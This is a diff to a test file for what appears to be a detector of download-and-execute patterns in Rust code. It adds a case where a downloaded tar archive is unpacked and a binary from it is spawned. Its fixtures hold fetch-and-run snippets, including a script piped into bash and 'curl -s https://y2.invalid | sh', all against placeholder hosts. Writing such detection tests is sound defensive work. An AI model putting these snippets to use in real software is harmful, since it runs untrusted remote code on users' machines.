@@ -269,6 +269,11 @@ describe("download and execute", () => {
     expect(of(w, "exec").map((e) => [e.command.text, e.fetched])).toEqual([["/tmp/upd", "https://x2.invalid/bin"]]);
   });
 
+  it("an archive of downloaded bytes unpacked into a folder: what runs from that folder is the download", () => {
+    const r = run(main('let resp = ureq::get("https://x.invalid/db").call().unwrap();\nlet mut buf = Vec::new();\nresp.into_reader().read_to_end(&mut buf).unwrap();\nlet out = std::path::PathBuf::from("target/db");\ntar::Archive::new(flate2::read::GzDecoder::new(&buf[..])).unpack(&out).unwrap();\nCommand::new(out.join("indexer")).spawn().unwrap();\nCommand::new("target/other/tool").spawn().unwrap();'));
+    expect(of(r, "exec").map((e) => [e.command.text, e.fetched])).toEqual([["target/db/indexer", "https://x.invalid/db"], ["target/other/tool", null]]);
+  });
+
   it("writes a script into a shell's stdin", () => {
     const r = run(main('let script = reqwest::blocking::get("https://y.invalid/s").unwrap().text().unwrap();\nlet mut child = Command::new("bash").stdin(Stdio::piped()).spawn().unwrap();\nchild.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();\nlet mut c2 = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();\nlet mut input = c2.stdin.take().expect("stdin");\ninput.write_all(b"curl -s https://y2.invalid | sh").unwrap();'));
     expect(of(r, "exec").filter((e) => e.lang === "shell").map((e) => [e.command.text, e.fetched])).toContainEqual(["⟨?⟩", "https://y.invalid/s"]);
